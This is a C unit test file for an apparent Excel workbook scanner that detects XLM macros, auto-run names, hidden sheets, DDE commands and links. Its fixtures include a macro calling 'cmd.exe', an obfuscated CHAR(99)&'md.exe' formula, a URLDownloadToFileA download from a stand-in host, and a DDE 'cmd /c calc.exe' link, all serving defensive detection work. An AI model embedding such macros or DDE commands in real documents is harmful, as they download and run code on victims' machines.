/* test_biff.c - workbooks: macro sheets and their formulas, names that run by themselves, DDE, links, texts. */
#include "exam_test.h"

#include "biff/ptg.h"
#include "office/office.h"
#include "../scenario/biff_writer.h"
#include "../scenario/ole_writer.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

enum { EXEC = 0x6e, CALL = 0x96, ALERT = 0x8076 };

static struct exam_test *t;
static struct biff_writer w;
static struct ole_writer file;

static void open_book(void)
{
	struct span bytes;

	ole_writer_init(&file);
	ole_writer_add(&file, "Workbook", biff_end(&w));
	biff_free(&w);
	bytes = ole_writer_file(&file);
	ole_writer_free(&file);
	exam_test_open(t, office_ole, bytes, "book.xls");
	free((void *)bytes.ptr);
}

static bool found(enum finding_id id)
{
	return exam_test_found(t, id, "");
}

/* A workbook with a sheet of macros, of which `add` writes the cells. */
static void open_macros(void (*add)(void), unsigned hidden, unsigned builtin, const char *name)
{
	biff_begin(&w);
	biff_sheet(&w, "Macro1", true, hidden);
	if (builtin || name)
		biff_name(&w, builtin, name);
	biff_next(&w, true);
	add();
	open_book();
}

static void add_exec(void)
{
	biff_call(&w, 0, EXEC, (const char *const[]){ "cmd.exe /c echo" }, 1);
}

static void add_alert(void)
{
	biff_call(&w, 0, ALERT, (const char *const[]){ "Hello" }, 1);
}

static void test_macros(void **state)
{
	(void)state;
	open_macros(add_exec, 2, 1, NULL);
	assert_true(exam_test_found(t, FINDING_XLM, "Macro1"));
	assert_true(exam_test_found(t, FINDING_XLM_CALLS, "cmd.exe /c echo"));
	assert_true(exam_test_found(t, FINDING_MACRO_AUTORUN, "Auto_Open"));
	assert_true(exam_test_found(t, FINDING_SHEET_HIDDEN, "Macro1"));
	open_macros(add_alert, 0, 0, "Total");
	assert_true(found(FINDING_XLM));
	assert_false(found(FINDING_XLM_CALLS) || found(FINDING_MACRO_AUTORUN) || found(FINDING_SHEET_HIDDEN));
	open_macros(add_alert, 1, 0, "AUTO_OPENed");
	assert_true(found(FINDING_MACRO_AUTORUN) && found(FINDING_SHEET_HIDDEN));
}

/* The same formula in a sheet of cells is no macro. */
static void test_cells(void **state)
{
	(void)state;
	biff_begin(&w);
	biff_sheet(&w, "Sheet1", false, 0);
	biff_next(&w, false);
	add_alert();
	open_book();
	assert_int_equal(t->exam.found_count, 0);
}

/* CHAR(99)&"md.exe" in its tokens. */
static void add_joined(void)
{
	static const uint8_t tokens[] = { 0x1e, 99, 0, 0x41, 0x6f, 0, 0x17, 6, 0, 'm', 'd', '.', 'e', 'x', 'e', 0x08,
					  0x42, 1, EXEC, 0 };

	biff_formula(&w, 0, (struct span){ tokens, sizeof(tokens) });
}

static void add_library(void)
{
	biff_call(&w, 0, CALL, (const char *const[]){ "urlmon", "URLDownloadToFileA", "JJCCJJ", "http://x.example/a" }, 4);
}

static void test_strings(void **state)
{
	(void)state;
	open_macros(add_joined, 0, 0, NULL);
	assert_true(exam_test_found(t, FINDING_XLM_CALLS, "cmd.exe"));
	open_macros(add_library, 0, 0, NULL);
	assert_true(exam_test_found(t, FINDING_XLM_CALLS, "URLDownloadToFileA"));
	assert_true(exam_test_url(t, "http://x.example/a"));
}

static void test_dde(void **state)
{
	(void)state;
	biff_begin(&w);
	biff_sheet(&w, "Sheet1", false, 0);
	biff_dde(&w, "cmd", "/c calc.exe");
	biff_next(&w, false);
	open_book();
	assert_true(exam_test_found(t, FINDING_DDE_COMMAND, "cmd /c calc.exe"));
	biff_begin(&w);
	biff_sheet(&w, "Sheet1", false, 0);
	biff_dde(&w, "Excel", "[book.xls]Sheet1");
	biff_next(&w, false);
	open_book();
	assert_false(found(FINDING_DDE_COMMAND) || found(FINDING_DDE));
}

/* [MS-OSHARED] 2.3.7.1, with a moniker of an address. */
static void test_link(void **state)
{
	static const uint8_t head[] = { 0, 0, 0, 0, 0, 0, 0, 0, 0xd0, 0xc9, 0xea, 0x79, 0xf9, 0xba, 0xce, 0x11, 0x8c, 0x82,
					0, 0xaa, 0, 0x4b, 0xa9, 0x0b, 2, 0, 0, 0, 3, 0, 0, 0, 0xe0, 0xc9, 0xea, 0x79,
					0xf9, 0xba, 0xce, 0x11, 0x8c, 0x82, 0, 0xaa, 0, 0x4b, 0xa9, 0x0b };
	static const char url[] = "http://link.example/";
	uint8_t body[256];
	size_t len = sizeof(head);

	(void)state;
	memcpy(body, head, sizeof(head));
	body[len++] = sizeof(url) * 2;
	memset(body + len, 0, 3);
	len += 3;
	for (size_t i = 0; i < sizeof(url); i++) {
		body[len++] = (uint8_t)url[i];
		body[len++] = 0;
	}
	biff_begin(&w);
	biff_sheet(&w, "Sheet1", false, 0);
	biff_next(&w, false);
	biff_record(&w, 0x01b8, body, len);
	open_book();
	assert_true(exam_test_url(t, url));
}

/* A shared string that goes on in the next record, there in UTF-16. */
static void test_text(void **state)
{
	static const uint8_t first[] = { 1, 0, 0, 0, 2, 0, 0, 0, 5, 0, 0, 'h', 'e' };
	static const uint8_t second[] = { 1, 'l', 0, 'l', 0, 0x42, 0x30, 3, 0, 8, 1, 0, 'a', 'b', 'c', 0, 0, 0, 0 };

	(void)state;
	biff_begin(&w);
	biff_record(&w, 0x00fc, first, sizeof(first));
	biff_record(&w, 0x003c, second, sizeof(second));
	open_book();
	assert_string_equal(t->text, "hell\xe3\x81\x82\nabc\n\n");
}

/* Functions are looked up by halving. */
static void test_functions(void **state)
{
	(void)state;
	assert_string_equal(ptg_function(0x6e), "EXEC");
	assert_string_equal(ptg_function(0x8060), "FORMULA");
	assert_string_equal(ptg_function(0x01), "IF");
	assert_string_equal(ptg_function(0x8181), "WORKBOOK.DELETE");
	assert_null(ptg_function(0x7fff));
	for (unsigned i = 0; i < 0x8200; i++)
		if (ptg_function(i))
			assert_true(*ptg_function(i) >= 'A');
}

/* Any bytes for tokens: ends, with something to show. */
static void test_tokens(void **state)
{
	uint32_t random = 7;
	uint8_t tokens[64];

	(void)state;
	for (unsigned round = 0; round < 20000; round++) {
		struct ptg_formula formula = { .tokens = { tokens, sizeof(tokens) }, .version = round % 5 + 2 };

		if (formula.version == 6)
			formula.version = 8;
		for (size_t i = 0; i < sizeof(tokens); i++) {
			random = random * 1664525 + 1013904223;
			tokens[i] = (uint8_t)(random >> 24);
		}
		arena_clear(&t->exam.arena);
		assert_true(ptg_text(&t->exam, &formula).len <= 4096);
	}
}

static int begin(void **state)
{
	(void)state;
	t = exam_test_new();
	return t ? 0 : -1;
}

static int end(void **state)
{
	(void)state;
	exam_test_free(t);
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_macros), cmocka_unit_test(test_cells),	 cmocka_unit_test(test_strings),
		cmocka_unit_test(test_dde),    cmocka_unit_test(test_link),	 cmocka_unit_test(test_text),
		cmocka_unit_test(test_tokens), cmocka_unit_test(test_functions),
	};

	return cmocka_run_group_tests(tests, begin, end);
}
